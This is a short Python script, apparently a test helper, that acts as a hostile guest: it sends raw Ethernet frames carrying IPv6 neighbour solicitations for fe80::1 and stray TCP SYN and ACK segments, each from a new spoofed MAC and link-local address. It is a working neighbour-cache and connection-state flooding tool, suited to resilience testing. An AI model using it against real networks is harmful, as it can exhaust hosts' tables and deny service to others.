#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""A hostile guest's neighbour solicitations: neighbours.py INTERFACE COUNT HOST-MAC

Each asks for fe80::1 and comes from an address and a MAC of its own, and so do as many TCP segments
that belong to no connection.
"""
import socket
import struct
import sys

HOST = socket.inet_pton(socket.AF_INET6, "fe80::1")
ICMPV6, TCP = 58, 6
ACK, SYN = 0x10, 0x02


def checksum(source, protocol, body):
    data = source + HOST + struct.pack("!II", len(body), protocol) + body
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def frame(host_mac, mac, source, protocol, body, at):
    """`body` with its checksum at offset `at`, in a packet with hop limit 255, in a frame."""
    body = body[:at] + struct.pack("!H", checksum(source, protocol, body)) + body[at + 2:]
    header = struct.pack("!IHBB", 6 << 28, len(body), protocol, 255)
    return host_mac + mac + b"\x86\xdd" + header + source + HOST + body


def solicitation(mac):
    return struct.pack("!BBHI", 135, 0, 0, 0) + HOST + b"\x01\x01" + mac


def segment(source_port, port, flags):
    return struct.pack("!HHIIBBHHH", source_port, port, 1, 1, 5 << 4, flags, 1024, 0, 0)


def main():
    interface, count = sys.argv[1], int(sys.argv[2])
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind((interface, 0))
        for number in range(count):
            mac = b"\x02\x66" + struct.pack("!I", number)
            source = HOST[:2] + b"\0" * 6 + b"\x66" * 4 + struct.pack("!I", number)
            for host_mac in (b"\x33\x33\xff\x00\x00\x01", bytes.fromhex(sys.argv[3])):
                link.send(frame(host_mac, mac, source, ICMPV6, solicitation(mac), 2))
                link.send(frame(host_mac, mac, source, TCP, segment(7475, 4711, ACK), 16))
                link.send(frame(host_mac, mac, source, TCP, segment(4711, 4711, SYN), 16))


main()
